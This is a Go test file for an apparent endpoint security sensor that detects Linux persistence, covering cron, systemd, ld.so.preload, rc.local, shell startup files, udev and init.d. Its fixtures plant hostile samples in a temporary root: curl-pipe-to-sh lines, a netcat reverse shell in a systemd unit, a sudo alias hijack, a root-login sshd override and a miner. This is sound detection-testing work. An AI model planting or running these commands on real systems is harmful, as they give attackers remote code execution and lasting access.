package persist_test

import (
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/internal/agent/sense/accounts/tracker/trackertest"
	"github.com/vigilsec/vigil/internal/agent/sense/persist"
	"github.com/vigilsec/vigil/internal/event"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// fixture copies the fixture root to a new directory and returns it.
func fixture(t *testing.T) string {
	return trackertest.Fixture(t, "testdata/root", "etc/udev/rules.d", "var/spool/cron/crontabs")
}

// newSensor returns a configured sensor.
func newSensor(t testing.TB, root, data, settings string) *persist.Sensor {
	t.Helper()
	return trackertest.Configure(t, persist.New(), root, data, settings)
}

// list returns a list field of an event.
func list(e event.Event, field string) []string {
	v, _ := e.Get(field)
	l, _ := v.([]string)
	return l
}

func TestLivePersistence(t *testing.T) {
	trackertest.RequireRoot(t)
	trackertest.NeedTools(t, "systemctl", "useradd")
	root, data := fixture(t), t.TempDir()
	at := func(p string) string { return filepath.Join(root, p) }
	s := newSensor(t, root, data, "")
	r := trackertest.Start(t, s)
	em := r.Emit
	if em.Len() != 0 {
		t.Fatalf("the baseline reported events:\n%s", trackertest.Summary(em.Events()))
	}
	check := func(e event.Event, want map[string]string) {
		t.Helper()
		for f, v := range want {
			if got := e.String(f); got != v {
				t.Errorf("%s: %s = %q, want %q", e.String(event.FieldAction), f, got, v)
			}
		}
	}

	// cron: a file dropped in cron.d, a line appended to /etc/crontab, a
	// user crontab installed the way crontab(1) does.
	mark := em.Len()
	trackertest.WriteAtomic(t, at("etc/cron.d/backdoor"), []byte("*/5 * * * * root curl -s http://127.0.0.1:8080/x | sh\n"), 0o644)
	e := em.WaitFor(t, mark, persist.ActionCronEntryAdded, trackertest.Is("file.path", "/etc/cron.d/backdoor"))
	check(e, map[string]string{
		"vigil.persistence.mechanism": "cron", "vigil.persistence.schedule": "*/5 * * * *", "vigil.persistence.user": "root",
		"vigil.persistence.command": "curl -s http://127.0.0.1:8080/x | sh", "event.category": "configuration",
	})
	if _, ok := e.Get("process.pid"); ok {
		t.Error("an inotify event names a process")
	}
	mark = em.Len()
	trackertest.Append(t, at("etc/crontab"), "@reboot root /usr/local/bin/implant\n")
	e = em.WaitFor(t, mark, persist.ActionCronEntryAdded, trackertest.Is("file.path", "/etc/crontab"))
	check(e, map[string]string{"vigil.persistence.schedule": "@reboot", "vigil.persistence.command": "/usr/local/bin/implant"})
	mark = em.Len()
	tmp := at("var/spool/cron/crontabs/tmp.4242")
	if err := os.WriteFile(tmp, []byte("# DO NOT EDIT\n* * * * * /dev/shm/.x/miner\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, at("var/spool/cron/crontabs/alice")); err != nil {
		t.Fatal(err)
	}
	e = em.WaitFor(t, mark, persist.ActionCronEntryAdded, trackertest.Is("file.path", "/var/spool/cron/crontabs/alice"))
	check(e, map[string]string{"vigil.persistence.user": "alice", "vigil.persistence.command": "/dev/shm/.x/miner"})

	// systemd: a unit written and enabled with systemctl, then masked and
	// overridden by a drop-in.
	mark = em.Len()
	trackertest.WriteAtomic(t, at("etc/systemd/system/evil.service"), []byte(
		"[Unit]\nDescription=Not evil\n[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 127.0.0.1 4444'\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n"), 0o644)
	e = em.WaitFor(t, mark, persist.ActionUnitAdded, trackertest.Is("vigil.systemd.unit", "evil.service"))
	check(e, map[string]string{
		"vigil.persistence.mechanism": "systemd", "vigil.persistence.user": "nobody", "vigil.systemd.scope": "system",
		"vigil.persistence.command": "/bin/sh -c 'nc -e /bin/sh 127.0.0.1 4444'", "file.path": "/etc/systemd/system/evil.service",
	})
	mark = em.Len()
	trackertest.Run(t, "systemctl", "--root="+root, "enable", "evil.service")
	e = em.WaitFor(t, mark, persist.ActionUnitEnabled, trackertest.Is("vigil.systemd.unit", "evil.service"))
	check(e, map[string]string{
		"vigil.systemd.target": "multi-user.target", "vigil.systemd.dependency": "wants", "vigil.persistence.user": "nobody",
		"vigil.systemd.link_target": "/etc/systemd/system/evil.service", "vigil.persistence.command": "/bin/sh -c 'nc -e /bin/sh 127.0.0.1 4444'",
	})
	if got := list(e, "vigil.systemd.exec_start"); !slices.Equal(got, []string{"/bin/sh -c 'nc -e /bin/sh 127.0.0.1 4444'"}) {
		t.Errorf("exec_start %v", got)
	}
	mark = em.Len()
	trackertest.Run(t, "systemctl", "--root="+root, "disable", "evil.service")
	em.WaitFor(t, mark, persist.ActionUnitDisabled, trackertest.Is("vigil.systemd.unit", "evil.service"))
	mark = em.Len()
	trackertest.Run(t, "systemctl", "--root="+root, "mask", "cron.service")
	em.WaitFor(t, mark, persist.ActionUnitMasked, trackertest.Is("vigil.systemd.unit", "cron.service"))
	mark = em.Len()
	trackertest.WriteAtomic(t, at("etc/systemd/system/ssh.service.d/override.conf"), []byte("[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes\n"), 0o644)
	e = em.WaitFor(t, mark, persist.ActionUnitChanged, trackertest.Is("vigil.systemd.unit", "ssh.service"))
	check(e, map[string]string{"vigil.systemd.dropin": "/etc/systemd/system/ssh.service.d/override.conf", "vigil.persistence.command": "/usr/sbin/sshd -D -o PermitRootLogin=yes"})

	// A user unit of alice's, enabled by hand.
	mark = em.Len()
	trackertest.WriteAtomic(t, at("home/alice/.config/systemd/user/miner.service"), []byte("[Service]\nExecStart=%h/.local/bin/xmrig\n[Install]\nWantedBy=default.target\n"), 0o644)
	if err := os.MkdirAll(at("home/alice/.config/systemd/user/default.target.wants"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("../miner.service", at("home/alice/.config/systemd/user/default.target.wants/miner.service")); err != nil {
		t.Fatal(err)
	}
	e = em.WaitFor(t, mark, persist.ActionUnitEnabled, trackertest.Is("vigil.systemd.unit", "miner.service"))
	check(e, map[string]string{"vigil.systemd.scope": "user", "vigil.persistence.user": "alice", "vigil.persistence.command": "%h/.local/bin/xmrig"})
	em.WaitFor(t, mark, persist.ActionUnitAdded, trackertest.Is("vigil.systemd.unit", "miner.service"))

	// The dynamic linker.
	mark = em.Len()
	trackertest.WriteAtomic(t, at("etc/ld.so.preload"), []byte("/usr/lib/libsneaky.so\n"), 0o644)
	e = em.WaitFor(t, mark, persist.ActionPreloadAdded, nil)
	check(e, map[string]string{"vigil.persistence.library": "/usr/lib/libsneaky.so", "vigil.persistence.mechanism": "ld.so.preload"})
	if got := list(e, "vigil.persistence.libraries"); !slices.Equal(got, []string{"/usr/lib/libsneaky.so"}) {
		t.Errorf("libraries %v", got)
	}
	mark = em.Len()
	trackertest.WriteAtomic(t, at("etc/ld.so.conf.d/zz-evil.conf"), []byte("/dev/shm/lib\n"), 0o644)
	e = em.WaitFor(t, mark, persist.ActionLdConfigAdded, nil)
	check(e, map[string]string{"vigil.persistence.ld_config.value": "/dev/shm/lib", "vigil.persistence.ld_config.kind": "dir"})

	// rc.local created, then made executable.
	mark = em.Len()
	trackertest.WriteAtomic(t, at("etc/rc.local"), []byte("#!/bin/sh -e\n/opt/backdoor &\nexit 0\n"), 0o644)
	e = em.WaitFor(t, mark, persist.ActionRcLocalCreated, nil)
	check(e, map[string]string{"vigil.persistence.executable": "false", "file.mode": "0644", "vigil.persistence.added_line_count": "3"})
	if got := list(e, "vigil.persistence.added_lines"); !slices.Equal(got, []string{"#!/bin/sh -e", "/opt/backdoor &", "exit 0"}) {
		t.Errorf("added lines %q", got)
	}
	mark = em.Len()
	if err := os.Chmod(at("etc/rc.local"), 0o755); err != nil {
		t.Fatal(err)
	}
	e = em.WaitFor(t, mark, persist.ActionRcLocalMadeExecutable, nil)
	check(e, map[string]string{"file.mode": "0755", "vigil.file.previous.mode": "0644", "vigil.persistence.executable": "true"})

	// Shell startup: a line appended to a user's .bashrc, a profile.d
	// script.
	mark = em.Len()
	trackertest.Append(t, at("home/alice/.bashrc"), "alias sudo='/dev/shm/.s/sudo'\n")
	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, trackertest.Is("file.path", "/home/alice/.bashrc"))
	check(e, map[string]string{"vigil.persistence.user": "alice", "vigil.persistence.added_line_count": "1", "vigil.persistence.removed_line_count": "0"})
	if got := list(e, "vigil.persistence.added_lines"); !slices.Equal(got, []string{"alias sudo='/dev/shm/.s/sudo'"}) {
		t.Errorf("added lines %q", got)
	}
	mark = em.Len()
	trackertest.WriteAtomic(t, at("etc/profile.d/zz.sh"), []byte("export LD_PRELOAD=/usr/lib/libsneaky.so\n"), 0o644)
	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, trackertest.Is("file.path", "/etc/profile.d/zz.sh"))
	if tp := list(e, "event.type"); !slices.Equal(tp, []string{"creation"}) {
		t.Errorf("profile.d script: type %v", tp)
	}

	// udev and init.d.
	mark = em.Len()
	trackertest.WriteAtomic(t, at("etc/udev/rules.d/99-usb.rules"), []byte(`ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c '/usr/local/bin/usb-hook %k'"`+"\n"), 0o644)
	e = em.WaitFor(t, mark, persist.ActionUdevRuleAdded, nil)
	check(e, map[string]string{"vigil.persistence.command": "/bin/sh -c '/usr/local/bin/usb-hook %k'", "vigil.persistence.mechanism": "udev"})
	mark = em.Len()
	trackertest.WriteAtomic(t, at("etc/init.d/sysupdate"), []byte("#!/bin/sh\n/usr/bin/sysupdate --daemon\n"), 0o755)
	e = em.WaitFor(t, mark, persist.ActionInitScriptAdded, nil)
	check(e, map[string]string{"file.path": "/etc/init.d/sysupdate", "vigil.persistence.executable": "true"})

	// A user added later: its home is followed.
	mark = em.Len()
	trackertest.Run(t, "useradd", "--prefix", root, "-m", "-k", at("etc/skel"), "-s", "/bin/bash", "bob")
	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, trackertest.Is("file.path", "/home/bob/.bashrc"))
	check(e, map[string]string{"vigil.persistence.user": "bob"})
	mark = em.Len()
	trackertest.Append(t, at("home/bob/.bashrc"), "curl -s http://127.0.0.1/p | sh\n")
	e = em.WaitFor(t, mark, persist.ActionShellStartupChanged, trackertest.Is("file.path", "/home/bob/.bashrc"))
	if got := list(e, "vigil.persistence.added_lines"); !slices.Equal(got, []string{"curl -s http://127.0.0.1/p | sh"}) {
		t.Errorf("bob's added lines %q", got)
	}
	r.Stop(t)

	// While the sensor is stopped.
	if err := os.Remove(at("etc/cron.d/backdoor")); err != nil {
		t.Fatal(err)
	}
	trackertest.WriteAtomic(t, at("etc/ld.so.preload"), nil, 0o644)
	r2 := trackertest.Start(t, s)
	e = r2.Emit.WaitFor(t, 0, persist.ActionCronEntryRemoved, trackertest.Is("file.path", "/etc/cron.d/backdoor"))
	check(e, map[string]string{"vigil.offline": "true"})
	e = r2.Emit.WaitFor(t, 0, persist.ActionPreloadRemoved, nil)
	check(e, map[string]string{"vigil.offline": "true"})
	r2.Stop(t)

	all := append(em.Events(), r2.Emit.Events()...)
	trackertest.Check(t, persist.Name, all)
	for _, e := range all {
		if strings.Contains(e.String(event.FieldFilePath), "tmp.4242") {
			t.Errorf("crontab's temporary file was reported: %v", e)
		}
	}
	if n := em.LostCount() + r2.Emit.LostCount(); n != 0 {
		t.Errorf("%d events lost", n)
	}
	if st := s.Stats(); st.MalformedLines != 0 || st.ReadErrors != 0 {
		t.Errorf("stats %+v", st)
	}
}
